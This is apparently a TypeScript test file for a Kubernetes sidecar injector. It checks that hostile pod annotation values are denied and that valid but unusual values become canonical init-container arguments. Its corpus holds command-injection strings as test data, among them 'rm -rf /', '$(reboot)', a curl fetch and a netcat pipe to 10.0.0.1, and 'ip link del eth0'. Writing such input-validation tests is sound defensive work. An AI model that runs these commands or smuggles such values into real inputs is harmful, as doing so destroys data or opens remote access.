/**
 * Hostile annotation values, for every row of the engine's annotation table (siding's key
 * and every Istio alias): shell metacharacters, newlines, NUL, overlong values, negative and
 * overflowing numbers, IPv6 garbage, Unicode look-alikes (fullwidth and Arabic-Indic digits,
 * Cyrillic letters), zero-width and bidi controls, option-looking values. Each is denied with
 * a message that names the annotation and shows the value escaped (printable ASCII only, so
 * it can neither forge a log line nor pass for another value).
 *
 * Valid-but-weird values (spaces around items, duplicates, host bits in CIDRs, upper-case
 * IPv6, ranges covering everything) are accepted, and then the `siding-init` arguments
 * contain only canonical tokens rebuilt from the parsed values, which `siding init`'s own
 * parser accepts: no annotation text reaches an argument list unvalidated.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { Command } from 'commander';
import fc from 'fast-check';
import type { V1Container, V1Pod } from '@kubernetes/client-node';
import { registerInit } from '../../src/cli/init.js';
import { configFromValue } from '../../src/config/index.js';
import { parseImage } from '../../src/config/values.js';
import { formatCidr, parseCidr, parseInterfaceName, STRICT } from '../../src/grammar/index.js';
import { ANNOTATIONS, INIT_CONTAINER, injectPod, PROXY_CONTAINER, type AnnotationField, type AnyAnnotationSpec } from '../../src/inject/index.js';
import { RecordingRunner } from '../../src/redirect/runner.js';

function pod(annotations: Record<string, unknown> = {}, labels: Record<string, unknown> = {}): V1Pod {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'web', namespace: 'shop', labels: { app: 'web', ...labels }, annotations: annotations as Record<string, string> },
    spec: { containers: [{ name: 'web', image: 'registry.example.com/web:1.0', ports: [{ name: 'http', containerPort: 8080 }] }] },
  };
}

// Pods may choose any proxy image here: the image annotation's syntax is what is tested.
const ANY_IMAGE = configFromValue({ proxy: { imageOverridePrefixes: ['*'] } }, 'test');
const inject = (p: V1Pod): ReturnType<typeof injectPod> => injectPod(p, { namespace: 'shop' }, ANY_IMAGE);

/** Every key a row is read from: siding's own first, then Istio's. */
const keysOf = (spec: AnyAnnotationSpec): string[] => [spec.key, ...spec.aliases];

// ---------------------------------------------------------------------------
// The corpus
// ---------------------------------------------------------------------------

type ValueClass = 'bool' | 'portsNoRange' | 'portsRange' | 'cidrs' | 'ifaces' | 'image' | 'cpu' | 'memory' | 'mode';

/** The syntax of each row. A Record, so a new row without a class does not compile. */
const CLASS: Record<AnnotationField, ValueClass> = {
  inject: 'bool',
  includeInboundPorts: 'portsNoRange',
  excludeInboundPorts: 'portsRange',
  includeOutboundPorts: 'portsNoRange',
  excludeOutboundPorts: 'portsRange',
  includeOutboundIPRanges: 'cidrs',
  excludeOutboundIPRanges: 'cidrs',
  excludeInterfaces: 'ifaces',
  proxyImage: 'image',
  proxyCPU: 'cpu',
  proxyMemory: 'memory',
  proxyCPULimit: 'cpu',
  proxyMemoryLimit: 'memory',
  nativeSidecar: 'bool',
  holdApplicationUntilProxyStarts: 'bool',
  interceptionMode: 'mode',
};

/** Invalid for every annotation. */
const EVERYWHERE = [
  // shell metacharacters and command injection
  '80;rm -rf /',
  '$(reboot)',
  '`id`',
  '80 && curl http://10.0.0.1/x',
  '80|nc 10.0.0.1 4444',
  "80' -j ACCEPT '",
  '"80"',
  '80>/tmp/x',
  '80 #',
  '${IFS}80',
  '8 0',
  // option injection
  '--help',
  '-j ACCEPT',
  '--dry-run',
  // newlines, carriage returns, tabs, NUL
  '80\n443',
  'true\n',
  '\ntrue',
  'REDIRECT\r\n',
  '80\t',
  '80\u0000',
  'true\u0000',
  '\u0000',
  // bidi controls, zero-width characters, byte order mark
  '\u202e08',
  'tr\u202eue',
  '\u2066true\u2069',
  '8\u200b0',
  'true\u200b',
  '\ufefftrue',
  '\u00a080',
  // look-alikes: fullwidth, Arabic-Indic and superscript digits, fullwidth and Cyrillic letters
  '８０',
  'ｔｒｕｅ',
  '٨٠',
  '⁸⁰',
  'ＲＥＤＩＲＥＣＴ',
  'REDIR\u0415CT',
  'ngin\u0445:1.0',
  '１０.０.０.０/８',
  // overlong: past the 64 KiB cap on one value
  '1'.repeat(70_000),
  'a'.repeat(70_000),
  `${'8080,'.repeat(14_000)}80`,
];

const PORTS = [
  '-1', '0', '65536', '70000', '99999999999999999999', '4294967376', '1e3', '0x50', '+80', '80.0', '080', '80-', '-80',
  '80,,443', ',80', '80,', 'Infinity', 'NaN', '8080:8090', '80,*', '80 443', '65535,65536', 'http', `${'1,'.repeat(1100)}1`,
];
const CIDRS = [
  '10.0.0.0/33', '10.0.0.256', '::ffff:10.0.0.1', 'fe80::1%eth0', '1:2:3:4:5:6:7:8:9', ':::', '2001:db8::/129', '2001:db8::/-1',
  '10.0.0.0/08', '10.0.0/8', '0x0a.0.0.1', '10.0.0.1/', '/8', '[::1]', '[::1]/128', 'gggg::1', '1.2.3.4/24/8', '2001:db8::1::1',
  '10.0.0.0/8 10.1.0.0/16', '10.0.0.0/8;', '*,10.0.0.0/8', '10.0.0.0/8,,', 'localhost', '10.0.0.0/4294967304', '::1/1e2', '1.2.3',
];

const BY_CLASS: Record<ValueClass, string[]> = {
  bool: ['True', 'TRUE', 'yes', 'no', '1', '0', 'on', '', ' true', 'false ', 't', 'null'],
  portsNoRange: [...PORTS, '80-90', '1-65535'],
  portsRange: [...PORTS, '100-10', '1-99999', '0-80', '80-90-100', '80--90'],
  cidrs: CIDRS,
  ifaces: ['eth0/1', 'a'.repeat(16), '.', '..', '-eth0', 'eth 0', 'eth0+', 'eth0:1', 'eth0,', 'eth0,,eth1', '*', 'eth0;ip link del eth0'],
  image: [
    '', 'UPPER/Case', 'nginx:', 'nginx@sha256:xyz', 'a//b', 'nginx:tag with space', ':latest', '/nginx', 'registry:99999999/nginx',
    `nginx:${'a'.repeat(200)}`, 'x'.repeat(600), '-nginx', 'nginx@', `nginx@sha256:${'z'.repeat(64)}`, 'nginx:1.0 --privileged',
  ],
  cpu: ['-1', '-100m', '1e999', '1.5m', '0x10', 'NaN', 'Infinity', '1 ', '1,000m', '9'.repeat(40), '1ki', '1e', '1.', '', '1m1', '１'],
  memory: ['-1', '-1Gi', '128m', '1e999', '0x10', 'NaN', '1 Gi', '1gi', '9'.repeat(40), '', '1.5.5Mi', '1Gb'],
  mode: ['redirect', 'TPROXY', 'REDIRECT ', 'NONE', '', 'Redirect'],
};

/** A message a log can carry safely: printable ASCII, bounded. */
function assertSafeMessage(message: string, context: string): void {
  assert.match(message, /^[\x20-\x7e]*$/, `the message carries raw control or non-ASCII characters (${context}): ${JSON.stringify(message.slice(0, 300))}`);
  assert.ok(message.length < 4000, `the message is ${message.length} characters long (${context})`);
}

function show(v: string): string {
  return JSON.stringify(v.length > 60 ? `${v.slice(0, 60)}...(${v.length})` : v);
}

describe('hostile annotation values', () => {
  it('has a value class for every row of the annotation table', () => {
    for (const spec of ANNOTATIONS) assert.ok(Object.hasOwn(CLASS, spec.field), spec.field);
  });

  for (const spec of ANNOTATIONS) {
    const corpus = [...EVERYWHERE, ...BY_CLASS[CLASS[spec.field]]];
    for (const key of keysOf(spec)) {
      it(`denies each of ${corpus.length} hostile values of ${key} with a message naming it`, () => {
        for (const value of corpus) {
          const outcome = inject(pod({ [key]: value }));
          assert.equal(outcome.kind, 'denied', `${key}=${show(value)} was ${outcome.kind}`);
          if (outcome.kind !== 'denied') continue;
          assert.ok(outcome.message.includes(`for annotation '${key}'`), `${key}=${show(value)}: ${outcome.message.slice(0, 300)}`);
          assertSafeMessage(outcome.message, `${key}=${show(value)}`);
        }
      });

      it(`denies non-string values of ${key} (numbers, booleans, null, objects, lists)`, () => {
        for (const value of [80, -1, Number.MAX_VALUE * 2, true, false, null, {}, { a: 1 }, [], ['80']]) {
          const outcome = inject(pod({ [key]: value }));
          assert.equal(outcome.kind, 'denied', `${key}=${JSON.stringify(value)} was ${outcome.kind}`);
          if (outcome.kind === 'denied') assert.ok(outcome.message.includes(`'${key}'`), outcome.message);
        }
      });
    }
    if (spec.label) {
      for (const key of keysOf(spec)) {
        it(`denies each hostile value of the label ${key} with a message naming the label`, () => {
          for (const value of corpus) {
            const outcome = inject(pod({}, { [key]: value }));
            assert.equal(outcome.kind, 'denied', `label ${key}=${show(value)} was ${outcome.kind}`);
            if (outcome.kind !== 'denied') continue;
            assert.ok(outcome.message.includes(`for label '${key}'`), outcome.message.slice(0, 300));
            assertSafeMessage(outcome.message, `label ${key}=${show(value)}`);
          }
        });
      }
    }
  }

  it('lists every hostile annotation of one pod in one denial', () => {
    // The inject switch is decided first, by policy, and alone; every other row is reported together.
    const rows = ANNOTATIONS.filter((s) => s.field !== 'inject');
    const outcome = inject(pod(Object.fromEntries(rows.map((s) => [s.key, '80;rm -rf /']))));
    assert.equal(outcome.kind, 'denied');
    if (outcome.kind !== 'denied') return;
    for (const s of rows) assert.ok(outcome.message.includes(`for annotation '${s.key}'`), s.key);
    assert.equal(outcome.errors.length, rows.length);
  });
});

// ---------------------------------------------------------------------------
// Valid-but-weird values and the init container's arguments
// ---------------------------------------------------------------------------

/** Runs `siding init ARGS --dry-run` through the real command parser; no program may run. */
async function initAccepts(args: readonly string[]): Promise<{ ok: true; payload: string } | { ok: false; error: string }> {
  const program = new Command('siding').exitOverride();
  const runner = new RecordingRunner();
  let out = '';
  let err = '';
  registerInit(program, { runner, out: (t) => (out += t), err: (t) => (err += t), exists: () => true });
  for (const c of program.commands) c.exitOverride().configureOutput({ writeErr: (s) => (err += s), writeOut: (s) => (out += s) });
  try {
    await program.parseAsync(['init', ...args, '--dry-run'], { from: 'user' });
  } catch (e) {
    return { ok: false, error: `${e instanceof Error ? e.message : String(e)} ${err}` };
  }
  assert.equal(runner.commands.length, 0, `--dry-run ran programs: ${runner.lines().join('; ')}`);
  return { ok: true, payload: out };
}

const SAFE_TOKEN = /^[A-Za-z0-9*.,:/_-]*$/;
const PORT = '(?:[1-9][0-9]{0,4})';
const PORT_LIST = new RegExp(`^(?:${PORT}(?:-${PORT})?(?:,${PORT}(?:-${PORT})?)*)?$`);

/** Checks that every argument is a canonical token of the kind its flag takes. */
function checkInitArgs(args: readonly string[], context: string): Map<string, string> {
  const values = new Map<string, string>();
  for (let i = 0; i < args.length; i++) {
    const flag = args[i] ?? '';
    assert.match(flag, /^-[a-z]$|^--[a-z-]+$/, `${context}: argument ${i} is not a flag: ${JSON.stringify(flag)}`);
    if (flag === '--redirect-dns') continue;
    const value = args[++i];
    assert.ok(value !== undefined, `${context}: ${flag} has no value`);
    assert.match(value, SAFE_TOKEN, `${context}: ${flag} ${JSON.stringify(value)}`);
    values.set(flag, value);
    switch (flag) {
      case '-p':
      case '-z':
      case '--dns-port':
        assert.match(value, new RegExp(`^${PORT}$`), `${context}: ${flag} ${value}`);
        break;
      case '-u':
      case '-g':
        assert.match(value, /^(0|[1-9][0-9]*)$/, `${context}: ${flag} ${value}`);
        break;
      case '-m':
        assert.equal(value, 'REDIRECT', context);
        break;
      case '-i':
      case '-x':
        if (value === '*' && flag === '-i') break;
        for (const item of value === '' ? [] : value.split(',')) {
          const parsed = parseCidr(item, STRICT);
          assert.ok(parsed.ok && formatCidr(parsed.value) === item, `${context}: ${flag} item ${item} is not canonical`);
        }
        break;
      case '-b':
        if (value === '*') break;
        assert.match(value, PORT_LIST, `${context}: ${flag} ${value}`);
        break;
      case '-d':
      case '-o':
      case '-q':
        assert.match(value, PORT_LIST, `${context}: ${flag} ${value}`);
        break;
      case '-c':
        for (const item of value.split(',')) assert.ok(parseInterfaceName(item, STRICT).ok, `${context}: -c item ${item}`);
        break;
      default:
        assert.fail(`${context}: unexpected flag ${flag}`);
    }
  }
  return values;
}

function initContainer(p: V1Pod): V1Container {
  const c = [...(p.spec?.initContainers ?? []), ...(p.spec?.containers ?? [])].find((x) => x.name === INIT_CONTAINER);
  assert.ok(c !== undefined, 'no siding-init container');
  return c;
}

interface WeirdCase {
  field: AnnotationField;
  value: string;
  /** Expected canonical value of one init flag, when the row feeds one. */
  expect?: [flag: string, token: string];
}

const WEIRD: WeirdCase[] = [
  { field: 'includeInboundPorts', value: ' * ', expect: ['-b', '*'] },
  { field: 'includeInboundPorts', value: ' 8080 , 8443 ', expect: ['-b', '8080,8443'] },
  { field: 'includeInboundPorts', value: '8080,8080,1,65535', expect: ['-b', '8080,1,65535'] },
  { field: 'includeInboundPorts', value: '', expect: ['-b', ''] },
  { field: 'excludeInboundPorts', value: '1-65535', expect: ['-d', '15090,15021,1-65535'] },
  { field: 'excludeInboundPorts', value: ' 9100-9110 , 9000 ,15021', expect: ['-d', '15090,15021,9100-9110,9000'] },
  { field: 'excludeInboundPorts', value: '9000-9000', expect: ['-d', '15090,15021,9000'] },
  { field: 'includeOutboundPorts', value: '443, 443', expect: ['-q', '443'] },
  { field: 'excludeOutboundPorts', value: '5432,6379,5432', expect: ['-o', '5432,6379'] },
  { field: 'excludeOutboundPorts', value: '1-1024', expect: ['-o', '1-1024'] },
  { field: 'includeOutboundIPRanges', value: ' * ', expect: ['-i', '*'] },
  { field: 'includeOutboundIPRanges', value: '10.1.2.3/8', expect: ['-i', '10.0.0.0/8'] },
  { field: 'includeOutboundIPRanges', value: 'FD00::1/8', expect: ['-i', 'fd00::/8'] },
  { field: 'includeOutboundIPRanges', value: '::/0,0.0.0.0/0', expect: ['-i', '::/0,0.0.0.0/0'] },
  { field: 'includeOutboundIPRanges', value: '2001:DB8:0:0:0:0:0:1', expect: ['-i', '2001:db8::1/128'] },
  { field: 'includeOutboundIPRanges', value: ' 10.0.0.1 , 10.0.0.1/32 ', expect: ['-i', '10.0.0.1/32'] },
  { field: 'includeOutboundIPRanges', value: '', expect: ['-i', ''] },
  { field: 'excludeOutboundIPRanges', value: '169.254.169.254', expect: ['-x', '169.254.169.254/32'] },
  { field: 'excludeOutboundIPRanges', value: '10.0.0.0/8,10.255.0.0/8', expect: ['-x', '10.0.0.0/8'] },
  { field: 'excludeOutboundIPRanges', value: 'FE80::/10', expect: ['-x', 'fe80::/10'] },
  { field: 'excludeInterfaces', value: 'eth0.100', expect: ['-c', 'eth0.100'] },
  { field: 'excludeInterfaces', value: 'eth1, eth1 ,veth_1-a', expect: ['-c', 'eth1,veth_1-a'] },
  { field: 'excludeInterfaces', value: 'e'.repeat(15), expect: ['-c', 'e'.repeat(15)] },
  { field: 'proxyImage', value: `localhost:5000/a/b/c:tag_1.2-3@sha256:${'a'.repeat(64)}` },
  { field: 'proxyImage', value: 'REGISTRY.example.com/x' },
  { field: 'proxyImage', value: 'a' },
  { field: 'proxyCPU', value: '.5' },
  { field: 'proxyCPU', value: '50m' },
  { field: 'proxyCPULimit', value: '1500m' },
  { field: 'proxyMemory', value: '1e6' },
  { field: 'proxyMemory', value: '100M' },
  { field: 'proxyMemoryLimit', value: '2Gi' },
  { field: 'nativeSidecar', value: 'false' },
  { field: 'holdApplicationUntilProxyStarts', value: 'false' },
  { field: 'interceptionMode', value: 'REDIRECT', expect: ['-m', 'REDIRECT'] },
  { field: 'inject', value: 'true' },
];

const specOf = (field: AnnotationField): AnyAnnotationSpec => {
  const s = ANNOTATIONS.find((x) => x.field === field);
  assert.ok(s !== undefined, field);
  return s;
};

describe('valid but unusual annotation values', () => {
  for (const c of WEIRD) {
    for (const key of keysOf(specOf(c.field))) {
      it(`turns ${key}=${show(c.value)} into canonical siding-init arguments that siding init accepts`, async () => {
        const outcome = inject(pod({ [key]: c.value }));
        assert.equal(outcome.kind, 'injected', outcome.kind === 'denied' ? outcome.message : outcome.kind);
        if (outcome.kind !== 'injected') return;
        const args = initContainer(outcome.pod).args ?? [];
        const values = checkInitArgs(args, `${key}=${show(c.value)}`);
        if (c.expect !== undefined) assert.equal(values.get(c.expect[0]), c.expect[1], `${c.expect[0]} in ${JSON.stringify(args)}`);
        assert.ok(!args.includes(c.value) || c.value === c.expect?.[1], `the raw value ${show(c.value)} reached the arguments unchanged: ${JSON.stringify(args)}`);
        const accepted = await initAccepts(args);
        assert.ok(accepted.ok, `siding init refused ${JSON.stringify(args)}: ${accepted.ok ? '' : accepted.error}`);
        assert.match(accepted.payload, /COMMIT/);
        if (c.field === 'proxyImage') {
          const proxy = [...(outcome.pod.spec?.initContainers ?? []), ...(outcome.pod.spec?.containers ?? [])].find((x) => x.name === PROXY_CONTAINER);
          assert.equal(proxy?.image, c.value);
        }
      });
    }
  }
});

describe('any annotation value, generated', () => {
  // Strings close to each syntax (digits, separators, hex, letters) and fully arbitrary ones.
  const nearSyntax = fc.string({ unit: fc.constantFrom(...'0123456789,-.:/* abcdefABCDEFxmkiMGT_@\n\u0000'.split('')), maxLength: 40 });
  const anyString = fc.oneof(nearSyntax, fc.string({ unit: 'binary', maxLength: 40 }), fc.string({ unit: 'grapheme', maxLength: 20 }));

  for (const spec of ANNOTATIONS) {
    it(`either denies ${spec.key} naming it, or gives siding-init only canonical arguments that siding init accepts`, async () => {
      await fc.assert(
        fc.asyncProperty(anyString, async (value) => {
          const outcome = inject(pod({ [spec.key]: value }));
          if (outcome.kind === 'denied') {
            assert.ok(outcome.message.includes(`for annotation '${spec.key}'`), outcome.message);
            assertSafeMessage(outcome.message, `${spec.key}=${show(value)}`);
            return;
          }
          if (outcome.kind === 'skipped') {
            // Only the inject switch can skip: "false".
            assert.equal(spec.field, 'inject');
            assert.equal(value, 'false');
            return;
          }
          const args = initContainer(outcome.pod).args ?? [];
          checkInitArgs(args, `${spec.key}=${show(value)}`);
          const accepted = await initAccepts(args);
          assert.ok(accepted.ok, `siding init refused ${JSON.stringify(args)} built from ${spec.key}=${show(value)}: ${accepted.ok ? '' : accepted.error}`);
          if (spec.field === 'proxyImage') assert.ok(parseImage(value).ok);
        }),
        { numRuns: 250, seed: 20_251_123 },
      );
    });
  }
});
